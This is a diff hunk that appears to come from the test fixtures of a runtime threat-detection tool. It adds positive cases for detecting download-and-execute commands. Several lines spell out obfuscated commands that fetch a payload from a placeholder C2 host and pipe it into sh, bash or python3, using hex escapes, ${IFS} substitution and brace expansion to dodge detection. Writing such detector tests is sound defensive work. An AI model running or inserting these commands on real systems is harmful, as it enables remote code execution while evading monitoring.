@@ -167,7 +167,11 @@ add(P, R, "pos",
     # an interpreter reading the download from its standard input
     kexec(["sh", "-c", f"curl -fsSL http://{C2}/p.py | python3"]),
     # bash's $'...' hex escapes spelling curl
-    falco(f"bash -c $'\\x63\\x75\\x72\\x6c' -s http://{C2}/h | sh", name="bash"))
+    falco(f"bash -c $'\\x63\\x75\\x72\\x6c' -s http://{C2}/h | sh", name="bash"),
+    # ${IFS} for blanks, an empty $@ inside the name
+    kexec(["sh", "-c", f"cu$@rl${{IFS}}-s${{IFS}}http://{C2}/ifs|sh"]),
+    # brace expansion of whole words
+    pod("braces", command=["bash", "-c"], args=[f"{{wget,-qO-,http://{C2}/br}}|{{bash,-s}}"]))
 add(P, R, "neg",
     # fetched and checked, never run
     pod("verify", command=["sh", "-c"],
